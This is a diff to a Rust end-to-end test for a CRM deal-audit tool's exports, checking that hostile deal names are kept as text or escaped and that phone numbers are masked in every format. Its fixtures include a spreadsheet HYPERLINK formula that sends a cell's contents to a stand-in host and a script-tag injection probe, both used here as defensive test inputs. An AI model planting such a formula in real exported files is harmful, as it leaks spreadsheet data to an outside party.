@@ -1,11 +1,16 @@
 //! What is written when exports carry hostile or personal text, end to
-//! end over `tests/reports/fixtures/hostile`: deal names that start like
-//! formulas (CSV and XLSX keep them as text), a deal named like a script
-//! (HTML and Markdown escape it), non-characters in a deal name (JUnit
-//! stays XML), a phone number and an e-mail address in
-//! deal names (`--mask-phones` hides them in every format).
+//! end over `tests/reports/fixtures/hostile` with the rule set
+//! `hostile.toml`: deal names that start like formulas (CSV and XLSX keep
+//! them as text), a deal named like a script (HTML and Markdown escape
+//! it), non-characters in a deal name (JUnit stays XML), and phone
+//! numbers and an e-mail address wherever text enters the report: deal
+//! names, a stage the rule set does not know (deal 710: its message and
+//! details quote it), the Bitrix24 task export's CRM cell naming a deal
+//! that is not there (task 2301: the file's note quotes it) and a
+//! waiver's reason (`--mask-phones` hides them in every format). Every
+//! phone number in the fixture has the code 927, so no `927` may show.
 
-use crate::support::{audit, out_dir, AS_OF, HOSTILE};
+use crate::support::{audit, out_dir, AS_OF, HOSTILE, HOSTILE_RULES};
 use calamine::{open_workbook, Data, Reader, Xlsx};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Счёт\")";
@@ -16,7 +21,15 @@ const SCRIPT: &str = "<script>alert(1)</script>";
 const EMAIL: &str = "Заявка от ivan.petrov@mail.ru | срочно";
 
 fn run(format: &str, extra: &[&str]) -> Vec<u8> {
-    let mut args = vec![HOSTILE, "--as-of", AS_OF, "--format", format];
+    let mut args = vec![
+        HOSTILE,
+        "--rules",
+        HOSTILE_RULES,
+        "--as-of",
+        AS_OF,
+        "--format",
+        format,
+    ];
     args.extend(extra);
     let run = audit(&args);
     assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
